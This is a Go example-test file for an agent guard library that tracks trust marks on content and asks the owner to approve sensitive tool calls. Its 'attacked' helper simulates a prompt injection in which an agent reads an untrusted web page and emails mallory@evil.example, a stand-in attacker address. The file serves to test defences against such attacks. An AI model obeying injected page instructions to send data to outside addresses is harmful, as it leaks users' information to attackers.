package embedded_test

import (
	"context"
	"fmt"
	"os"
	"time"

	"github.com/floodmark/floodmark"
	"github.com/floodmark/floodmark/approval"
	"github.com/floodmark/floodmark/embedded"
	"github.com/floodmark/floodmark/guard"
)

// A question goes to the owner by a function of the program. The call waits for
// the answer.
func ExampleAskBy() {
	ctx, dir := context.Background(), folder()
	defer os.RemoveAll(dir)

	var g *embedded.Guard
	ask := func(ctx context.Context, t approval.Ticket) error {
		// Show t.Call.Line where only the owner reads, and take the answer there.
		fmt.Println("the owner is asked about", t.Call.Action.Tool.Name)
		if t.Call.Pick != nil { // only others named the place, so a nod is not enough
			_, err := g.ApproveTo(ctx, t.Session, t.Code, "evil.example") // typed by the owner
			return err
		}
		_, err := g.Approve(ctx, t.Session, t.Code)
		return err
	}
	g = must(embedded.Open(dir, tools, embedded.AskBy(ask)))
	defer g.Close()
	s := must(g.Start(ctx, guard.Options{Agent: "helper", Wait: time.Minute}))
	fmt.Println(attacked(ctx, s))
	// Output:
	// the owner is asked about send_email
	// sent <nil>
}

// Content that the owner vouches for no longer lowers the mark.
func ExampleGuard_Endorse() {
	ctx, dir := context.Background(), folder()
	defer os.RemoveAll(dir)
	g := must(embedded.Open(dir, tools))
	defer g.Close()
	s := must(g.Start(ctx, guard.Options{Agent: "helper"}))
	_, err := attacked(ctx, s)
	fmt.Println(err != nil, must(g.Mark(ctx, s.ID())))

	for _, src := range must(g.Sources(ctx, s.ID())) {
		if src.Origin.Kind == floodmark.FromTool { // the owner has read the page
			must(g.Endorse(ctx, s.ID(), src.Digest.String()))
		}
	}
	fmt.Println(must(g.Mark(ctx, s.ID())))
	// Output:
	// true untrusted/internal
	// local/internal
}

const tools = `
version: 1
tools:
  - agent: helper
    tool: web_fetch
    effect: fetch
    returns: {trust: untrusted, secrecy: public}
    args: {url: {role: critical, is: url}}
  - agent: helper
    tool: send_email
    effect: send
    args: {to: {role: critical, is: destination}}
`

type args map[string]string

// attacked reads a page and does what it says.
func attacked(ctx context.Context, s *guard.Session) (string, error) {
	must(s.Said(ctx, "What is new on https://news.example/today?"))
	fetch := guard.Tool(s, "web_fetch", func(context.Context, args) (string, error) { return page, nil })
	must(fetch(ctx, args{"url": "https://news.example/today"}))
	send := guard.Tool(s, "send_email", func(context.Context, args) (string, error) { return "sent", nil })
	return send(ctx, args{"to": "mallory@evil.example"})
}

func folder() string { return must(os.MkdirTemp("", "guard")) }

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}
